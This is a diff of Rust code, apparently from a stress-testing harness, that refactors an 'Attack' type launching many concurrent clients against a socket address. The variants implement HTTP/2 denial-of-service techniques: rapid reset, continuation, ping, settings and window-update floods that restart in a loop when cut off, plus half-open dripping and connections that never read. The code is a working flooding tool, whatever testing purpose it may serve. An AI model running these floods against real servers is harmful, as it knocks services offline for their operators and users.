@@ -60,29 +60,24 @@ impl Attack {
         }
     }
 
-    const fn is_a_flood(self) -> bool {
-        !matches!(self, Self::HalfOpen | Self::ReadsNothing)
-    }
-
     /// Starts the clients. They go on until the set is dropped; a flood that is cut off begins anew.
     /// `body` is what asks for a long stream.
     pub async fn begin(self, address: SocketAddr, clients: usize, body: &str) -> JoinSet<()> {
         let mut attack = JoinSet::new();
         for n in 0..clients {
-            if self.is_a_flood() {
-                attack.spawn(async move {
-                    loop {
-                        flood(self, address).await;
-                        sleep(Duration::from_millis(20)).await;
-                    }
-                });
-                continue;
-            }
             let body = body.to_owned();
             attack.spawn(async move {
                 match self {
                     Self::HalfOpen => drip(address, n).await,
-                    _ => sit(address, &body).await,
+                    Self::ReadsNothing => sit(address, &body).await,
+                    Self::RapidReset
+                    | Self::Continuation
+                    | Self::Pings
+                    | Self::Settings
+                    | Self::WindowUpdates => loop {
+                        flood(self, address).await;
+                        sleep(Duration::from_millis(20)).await;
+                    },
                 }
             });
             // Faster than a listener can accept, the kernel would refuse them.
@@ -194,7 +189,8 @@ pub async fn flood(attack: Attack, address: SocketAddr) -> u64 {
             bytes = piece(false);
         }
     };
-    let drink = async { while read.read(&mut [0; 16 * 1024]).await.is_ok_and(|n| n > 0) {} };
+    let mut space = vec![0; 16 * 1024];
+    let drink = async { while read.read(&mut space).await.is_ok_and(|n| n > 0) {} };
     // Its end is seen by whichever comes first.
     tokio::select! {
         () = send => {}
